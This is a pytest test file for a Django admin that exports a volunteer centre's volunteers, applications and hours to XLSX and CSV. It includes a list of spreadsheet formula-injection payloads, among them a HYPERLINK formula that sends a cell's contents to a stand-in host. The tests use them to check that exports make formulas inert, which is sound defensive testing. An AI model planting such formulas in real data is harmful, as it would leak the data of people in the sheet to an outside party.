"""Spreadsheet exports of a centre's volunteers, applications and hours in the admin: the
right rows only, formulas made harmless, the same number of queries for any number of rows."""

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django.utils.translation import gettext

from accounts.models import Role
from core.models import Centre
from tests.accounts.helpers import make_staff
from tests.volunteers import days_from_today, make_task, make_task_index
from tests.volunteers.test_profile import make_resident, make_volunteer
from volunteers.models import (
    Application,
    ApplicationStatus,
    CentreVolunteer,
    Clearance,
    ClearanceKind,
    ClearanceResult,
    DisabilityKind,
    District,
    HoursEntry,
    HoursStatus,
    Language,
    Skill,
)
from volunteers.transfer.resources import clearance_summary

pytestmark = pytest.mark.django_db

INDEX = "/admin/wymiana-danych/"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def export_url(centre, kind="wolontariusze", fmt="xlsx"):
    return f"{INDEX}eksport/{centre.pk}/{kind}/{fmt}/"


@pytest.fixture
def centre_a(jaslo):
    return Centre.for_site(jaslo)


@pytest.fixture
def centre_b(pulawy):
    return Centre.for_site(pulawy)


@pytest.fixture
def task_a(jaslo):
    return make_task(make_task_index(jaslo), "Zakupy dla seniorów")


@pytest.fixture
def task_b(pulawy):
    return make_task(make_task_index(pulawy), "Korepetycje z matematyki")


@pytest.fixture
def admin(client, jaslo):
    client.force_login(make_staff("koordynator@example.org", jaslo, Role.COORDINATOR))
    return client


def volunteer(first_name, last_name, **fields):
    user = make_resident(f"{last_name.lower()}@example.org")
    user.first_name, user.last_name = first_name, last_name
    user.save()
    return make_volunteer(user, **fields)


def applied(profile, task, status=ApplicationStatus.SUBMITTED, **fields):
    centre = Centre.for_site(task.get_site())
    return Application.objects.create(task=task, volunteer=profile, centre=centre, status=status, **fields)


def hours(profile, task, amount, status=HoursStatus.APPROVED, note=""):
    centre = Centre.for_site(task.get_site())
    return HoursEntry.objects.create(
        volunteer=profile,
        task=task,
        task_title=task.title,
        centre=centre,
        date=days_from_today(-2),
        hours=Decimal(amount),
        status=status,
        note=note,
    )


def xlsx_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


def xlsx_table(response):
    rows = xlsx_rows(response)
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, [cell.value for cell in row], strict=True)) for row in rows[1:]]


def csv_table(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read Polish letters"
    return list(csv.DictReader(io.StringIO(text[1:]), delimiter=";"))


def test_volunteer_export_lists_the_centres_volunteers_and_nobody_else(admin, centre_a, task_a, task_b):
    skill = Skill.objects.create(name="Zakupy")
    district = District.objects.create(centre=centre_a, name="Śródmieście")
    other_district = District.objects.create(centre=Centre.for_site(task_b.get_site()), name="Włostowice")
    anna = volunteer(
        "Anna",
        "Kowalska",
        address="ul. Floriańska 3, 38-200 Jasło",
        driving_licence=True,
        gender="woman",
        regular_help=True,
        matching_note="gwara śląska",
    )
    anna.skills.add(skill)
    anna.languages.add(*(Language.objects.get_or_create(name=name)[0] for name in ("ukraiński", "angielski")))
    anna.disability_experience.add(DisabilityKind.objects.get_or_create(name="autyzm")[0])
    anna.districts.add(district, other_district)
    applied(anna, task_a, ApplicationStatus.ACCEPTED)
    hours(anna, task_a, "2.5")
    hours(anna, task_a, "1.25")
    hours(anna, task_a, "4", status=HoursStatus.SUBMITTED)
    hours(anna, task_b, "7")  # another centre's hours do not count here
    imported = volunteer("Jan", "Nowak")
    CentreVolunteer.objects.create(centre=centre_a, volunteer=imported)
    applied(volunteer("Piotr", "Obcy"), task_b)

    response = admin.get(export_url(centre_a))

    assert response.status_code == 200
    table = {row["nazwisko"]: row for row in xlsx_table(response)}
    assert set(table) == {"Kowalska", "Nowak"}
    row = table["Kowalska"]
    assert row["imię"] == "Anna"
    assert row["e-mail"] == "kowalska@example.org"
    assert row["adres"] == "ul. Floriańska 3, 38-200 Jasło"
    assert row["umiejętności"] == "Zakupy"
    assert row["dzielnice"] == "Śródmieście"  # not the other centre's district
    assert (row["prawo jazdy"], row["samochód"]) == ("tak", "nie")
    assert (row["języki"], row["doświadczenie z niepełnosprawnościami"]) == ("angielski; ukraiński", "autyzm")
    assert (row["płeć"], row["stała pomoc"], row["inne języki i doświadczenie"]) == ("kobieta", "tak", "gwara śląska")
    assert (table["Nowak"]["płeć"], table["Nowak"]["stała pomoc"], table["Nowak"]["języki"]) == (None, "nie", None)
    assert row["liczba zgłoszeń"] == 1
    assert Decimal(str(row["zatwierdzone godziny"])) == Decimal("3.75")
    assert row["data urodzenia"].date() == datetime.date(1990, 5, 1)
    assert table["Nowak"]["liczba zgłoszeń"] == 0


def test_clearance_summary_speaks_of_the_centres_checks(admin, centre_a, task_a):
    anna = volunteer("Anna", "Kowalska")
    applied(anna, task_a)
    coordinator = admin.session["_auth_user_id"]
    for kind in ClearanceKind:
        Clearance.objects.create(
            profile=anna,
            centre=centre_a,
            kind=kind,
            checked_on=days_from_today(-5),
            result=ClearanceResult.CLEAR,
            checked_by_id=coordinator,
            expires_on=days_from_today(100),
        )

    row = csv_table(admin.get(export_url(centre_a, fmt="csv")))[0]

    assert days_from_today(100).isoformat() in row["weryfikacja (ochrona dzieci)"]


def test_clearance_summary_names_missing_expired_and_unclear_checks():
    today = datetime.date(2026, 11, 23)
    latest = {
        ClearanceKind.SEX_OFFENDERS_REGISTER: Clearance(
            result=ClearanceResult.ENTRY_FOUND, expires_on=today + datetime.timedelta(days=9)
        ),
        ClearanceKind.CRIMINAL_RECORD: Clearance(
            result=ClearanceResult.CLEAR, expires_on=today - datetime.timedelta(days=1)
        ),
    }

    with translation.override("pl"):
        summary = clearance_summary(latest, today)
        label = {kind: str(kind.label) for kind in ClearanceKind}
        missing = f"{label['state_commission']}, {label['residence_statement']}"
        expected = "; ".join(
            [
                gettext("missing: %(checks)s") % {"checks": missing},
                gettext("expired: %(checks)s") % {"checks": label["criminal_record"]},
                gettext("needs clarifying: %(checks)s") % {"checks": label["sex_offenders"]},
            ]
        )
    assert summary == expected


def test_unknown_spreadsheet_or_format_is_not_found(admin, centre_a):
    assert admin.get(export_url(centre_a, "hasla")).status_code == 404
    assert admin.get(export_url(centre_a, fmt="pdf")).status_code == 404


def test_another_centres_export_is_not_there(admin, centre_b, task_b):
    applied(volunteer("Piotr", "Obcy"), task_b)

    for kind in ("wolontariusze", "zgloszenia", "godziny"):
        assert admin.get(export_url(centre_b, kind)).status_code == 404


def test_applications_export_shows_status_in_words_and_only_the_centres_applications(admin, centre_a, task_a, task_b):
    anna = volunteer("Anna", "Kowalska")
    applied(anna, task_a, ApplicationStatus.DECLINED, decline_reason="Komplet osób.", decided_at=timezone.now())
    applied(anna, task_b)

    rows = csv_table(admin.get(export_url(centre_a, "zgloszenia", "csv")))

    assert len(rows) == 1
    row = rows[0]
    assert row["zadanie"] == "Zakupy dla seniorów"
    assert row["wolontariusz"] == "Anna Kowalska"
    assert row["e-mail"] == "kowalska@example.org"
    assert row["status"] == "odrzucone"
    assert row["powód odmowy"] == "Komplet osób."
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row["zgłoszono"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row["decyzja"])


def test_hours_export_keeps_hours_as_numbers_and_anonymous_hours(admin, centre_a, task_a, task_b):
    anna = volunteer("Anna", "Kowalska")
    hours(anna, task_a, "2.5", note="Zakupy w Biedronce")
    erased = hours(volunteer("Jan", "Nowak"), task_a, "3")
    erased.volunteer = None
    erased.save()
    hours(anna, task_b, "5")

    rows = xlsx_rows(admin.get(export_url(centre_a, "godziny")))

    headers = [cell.value for cell in rows[0]]
    body = [dict(zip(headers, row, strict=True)) for row in rows[1:]]
    assert len(body) == 2
    assert all(row["godziny"].data_type == "n" for row in body)
    assert sorted(row["godziny"].value for row in body) == [2.5, 3]
    with translation.override("pl"):
        erased_label = gettext("(volunteer's data erased)")
    assert sorted(row["wolontariusz"].value for row in body) == sorted(["Anna Kowalska", erased_label])
    assert {row["status"].value for row in body} == {"zatwierdzone"}
    csv_rows = csv_table(admin.get(export_url(centre_a, "godziny", "csv")))
    assert sorted(row["godziny"] for row in csv_rows) == ["2,50", "3,00"]


FORMULAS = ('=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")', "+48*0", "-2+3", "@SUM(A1:A9)", "\tTAB", "=1+1")


def test_formulas_in_data_are_inert_in_xlsx_and_csv(admin, centre_a, task_a):
    profile = volunteer("Anna", "Kowalska")
    profile.user.first_name, profile.user.last_name = FORMULAS[0], FORMULAS[2]
    profile.user.save()
    profile.address, profile.matching_note = FORMULAS[3], FORMULAS[4]
    profile.save()
    applied(profile, task_a, ApplicationStatus.DECLINED, decline_reason=FORMULAS[1])
    hours(profile, task_a, "1", note=FORMULAS[5])

    for kind in ("wolontariusze", "zgloszenia", "godziny"):
        cells = [cell for row in xlsx_rows(admin.get(export_url(centre_a, kind))) for cell in row]
        assert all(cell.data_type != "f" for cell in cells), kind
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not [text for text in texts if text.startswith(DANGEROUS)], kind
        rows = list(
            csv.reader(io.StringIO(admin.get(export_url(centre_a, kind, "csv")).content.decode()[1:]), delimiter=";")
        )
        assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)], kind
    volunteers = xlsx_table(admin.get(export_url(centre_a)))
    assert volunteers[0]["imię"] == "'" + FORMULAS[0]  # kept readable, just not run
    notes = [row["notatka"] for row in csv_table(admin.get(export_url(centre_a, "godziny", "csv")))]
    assert notes == ["'=1+1"]


def test_download_is_a_private_attachment_with_a_dated_name(admin, centre_a):
    response = admin.get(export_url(centre_a, "wolontariusze", "csv"))

    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="wolontariusze-mops-jaslo-{today}.csv"'
    assert {"private", "no-store"} <= {part.strip() for part in response["Cache-Control"].split(",")}
    assert response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("kind", ["wolontariusze", "zgloszenia", "godziny"])
def test_export_takes_the_same_number_of_queries_for_any_number_of_rows(admin, centre_a, task_a, kind):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert admin.get(export_url(centre_a, kind)).status_code == 200
        return len(captured)

    skill = Skill.objects.create(name="Zakupy")
    for number in range(2):
        profile = volunteer("Anna", f"Kowalska{number}")
        profile.skills.add(skill)
        applied(profile, task_a)
        hours(profile, task_a, "1")
    few = queries()
    for number in range(8):
        profile = volunteer("Jan", f"Nowak{number}")
        profile.skills.add(skill)
        applied(profile, task_a)
        hours(profile, task_a, "1")

    assert queries() == few


def test_staff_without_volunteering_rights_cannot_export(client, jaslo, centre_a):
    client.force_login(make_staff("redaktor@example.org", jaslo, Role.EDITOR))

    assert client.get(INDEX).status_code in (302, 403)
    assert client.get(export_url(centre_a)).status_code in (302, 403)


def test_index_offers_exports_of_own_centres_only(client, jaslo, pulawy, centre_a, centre_b):
    person = make_staff("nadzor@example.org", jaslo, Role.SUPERVISOR)
    client.force_login(person)

    page = client.get(INDEX).content.decode()

    assert export_url(centre_a) in page
    assert export_url(centre_b) not in page
